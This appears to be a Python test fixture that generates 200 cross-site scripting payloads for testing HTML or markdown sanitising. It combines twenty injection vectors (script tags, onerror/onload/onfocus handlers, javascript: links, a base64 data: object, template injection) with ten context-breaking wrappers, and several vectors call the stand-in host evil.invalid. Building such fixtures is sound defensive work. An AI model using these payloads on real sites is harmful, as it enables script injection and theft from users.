"""Two hundred scripts disguised as texts: twenty ways to run one, each in ten disguises.

Whichever runs sets `hit` on the top window, or asks the host `evil.invalid` for something.
"""

import base64

HIT = "top.hit=(top.hit||0)+1"
ASK = "fetch('https://evil.invalid/f')"
_ENCODED = base64.b64encode(f"<script>{HIT}</script>".encode()).decode()

WAYS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src='https://evil.invalid/i.png' onload={HIT}>",
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<iframe srcdoc='<script>{HIT}</script>'></iframe>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<a href='javascript:{HIT}' autofocus onfocus={HIT}>Klick</a>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video src=x onerror={HIT}></video>",
    "<link rel=stylesheet href=https://evil.invalid/s.css>",
    f"<style>@import 'https://evil.invalid/c.css'</style><b onanimationstart={HIT}>x</b>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    f"<object data='data:text/html;base64,{_ENCODED}'></object>",
    f"<form action=https://evil.invalid><button autofocus onfocus={HIT}>x</button></form>",
    f"[Klick](javascript:{HIT})",
    "![Bild](https://evil.invalid/m.png)",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}<script>{ASK}</script>",
)
DISGUISES = (
    "{0}",
    "'\">{0}",
    "</textarea></title></script>{0}",
    "-->{0}<!--",
    "</span></div>{0}",
    "\"'`{0} Mein Auto ruckelt.",
    "**{0}**",
    "`{0}`",
    "- {0}\n- Bremsen",
    "\u202e{0}\u202c",
)
PAYLOADS = tuple(disguise.replace("{0}", way) for way in WAYS for disguise in DISGUISES)
